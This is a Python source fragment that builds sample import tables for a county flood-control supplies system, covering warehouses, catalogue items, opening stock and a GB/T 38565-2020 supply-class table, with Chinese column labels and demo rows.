def _supplies(session: Session) -> dict[str, Sound]:
    """The supplies' kinds: warehouses (a new one beside the demo's), catalogue items and
    opening stock of the demo's warehouses and items."""
    from models.supplies import SupplyItem, Warehouse

    warehouses = session.scalars(
        select(Warehouse).where(Warehouse.level == "county").order_by(Warehouse.code)
    ).all()
    items = session.scalars(select(SupplyItem).order_by(SupplyItem.code).limit(4)).all()
    return {
        "warehouses": Sound(
            "warehouses",
            Table(
                ["仓库编码", "仓库名称", "级别", "地址", "经度", "纬度", "管理员", "管理员电话"],
                [
                    [w.code, w.name, "县级", w.address or "", w.lon, w.lat, w.manager, _phone(n)]
                    for n, w in enumerate(warehouses)
                ]
                + [
                    [
                        "CK09",
                        "县北部防汛仓库",
                        "县级",
                        "北城路9号",
                        121.40,
                        28.70,
                        "赵刚",
                        _phone(9),
                    ]
                ],
                "防汛物资仓库一览表",
            ),
            numeric=[4, 5],
            text=[1, 3, 6],
            required=[0, 1],
            options={"crs": "gcj02"},
            lonlat=(4, 5),
        ),
        "items": Sound(
            "items",
            Table(
                ["物资编码", "物资名称", "类别", "规格型号", "单位", "保质期", "可归还"],
                [
                    [
                        i.code,
                        i.name,
                        "救生类",
                        i.specification or "",
                        i.unit,
                        "",
                        "是" if i.returnable else "否",
                    ]
                    for i in items
                ]
                + [["WZ099", "救生抛绳包", "救生类", "30m", "个", "5年", "否"]],
                "防汛物资目录",
            ),
            numeric=[],
            text=[1, 3],
            required=[0, 1, 2, 4],
        ),
        "stock": Sound(
            "stock",
            Table(
                ["仓库", "物资", "数量", "单位", "批号", "生产日期", "有效期至"],
                [
                    [w.code, i.name, f"{10 + n}{i.unit}", i.unit, f"L{n}", "2026/3/1", ""]
                    for n, (w, i) in enumerate((w, i) for w in warehouses[:2] for i in items)
                ]
                + [["合计", "", "", "", "", "", ""]],
                "期初库存",
            ),
            numeric=[2],
            text=[4],
            required=[0, 1, 2],
        ),
    }


def _item_class_sounds() -> dict[str, Sound]:
    """The GB/T 38565-2020 class table as a county types it: codes in full or by their
    levels, a top class, its classes below and an "other" (99) class."""
    return {
        "item-classes": Sound(
            "item-classes",
            Table(
                ["分类代码", "分类名称", "说明"],
                [
                    [2, "应急装备及配套物资", ""],
                    [201, "个体防护装备", ""],
                    ["20101", "水上救生防护", ""],
                    [2010101, "救生衣", "含儿童救生衣"],
                    ["2010199", "其他水上救生防护", "99 为其他"],
                    [3, "工程材料及机械加工设备", ""],
                    ["3010000", "抢险工程材料", ""],
                ],
                "应急物资分类及编码",
            ),
            numeric=[],
            text=[1, 2],
            required=[0, 1],
        )
    }
